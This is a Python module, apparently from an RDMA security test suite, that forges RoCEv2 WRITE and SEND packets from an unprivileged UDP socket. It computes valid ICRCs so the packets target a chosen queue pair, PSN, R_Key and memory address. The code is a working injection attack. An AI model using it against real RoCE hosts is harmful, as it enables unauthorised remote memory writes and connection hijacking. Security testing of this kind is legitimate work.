"""The sec-wire local_udp cases' unprivileged sender (sroce_inject.py udp-forge)."""

import os
import socket
import struct

from roceinj import proto as inj
from roceinj.proto import log, tp, reth


# --- the unprivileged sender ------------------------------------------------------------

IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2


def udp_forge(a):
    """Forged RoCEv2 requests from an ordinary UDP socket (run as an
    unprivileged user in the target's namespace): each --ops entry
    (write@K / send@K, K a PSN offset from --psn) goes to --dst-ip port
    4791 with an ICRC over the IPv4 and UDP headers the kernel will put in
    front of it. Unconnected, with DF (IP_PMTUDISC_DO), so the IP ID is 0;
    the source address is the one the route to --dst-ip picks, the source
    port the one bound."""
    caps = "?"
    with open("/proc/self/status") as f:
        for ln in f:
            if ln.startswith("CapEff:"):
                caps = ln.split()[1]
    log("udp-forge: uid %d gid %d, effective capabilities %s" % (os.geteuid(), os.getegid(), caps))
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((a.dst_ip, inj.ROCE_PORT))
    src = probe.getsockname()[0]
    probe.close()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
    s.bind((src, 0))
    sport = s.getsockname()[1]
    uc = inj.UC if a.transport == "uc" else 0
    dst = socket.inet_aton(a.dst_ip)
    for op in a.ops.split(","):
        kind, k = op.split("@")
        psn = (a.psn + int(k)) & 0xFFFFFF
        if kind == "write":
            data = b"FORGED-WRITE!!!!" * 16
            t = tp(uc | inj.RC_WRITE_ONLY, a.qpn, psn, reth(a.va, a.rkey, len(data)), data, ackreq=1)
        elif kind == "send":
            data = b"FORGED-SEND-PSN-%06x" % psn * 8
            t = tp(uc | inj.RC_SEND_ONLY, a.qpn, psn, payload=data, ackreq=1)
        else:
            raise SystemExit("udp-forge: unknown op %r" % op)
        ulen = 8 + len(t) + 4
        iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0x4000, 64, 17, 0,
                          socket.inet_aton(src), dst)
        udp = struct.pack("!HHHH", sport, inj.ROCE_PORT, ulen, 0)
        s.sendto(t + inj.icrc(iph + udp + t), (a.dst_ip, inj.ROCE_PORT))
        log("udp-forge: %s:%d -> %s:%d: %s opcode %#04x QPN %#x PSN %#x, %d payload bytes%s"
            % (src, sport, a.dst_ip, inj.ROCE_PORT, kind.upper(), t[0], a.qpn, psn, len(data),
               ", R_Key %#x VA %#x" % (a.rkey, a.va) if kind == "write" else ""))
    s.close()
    return 0
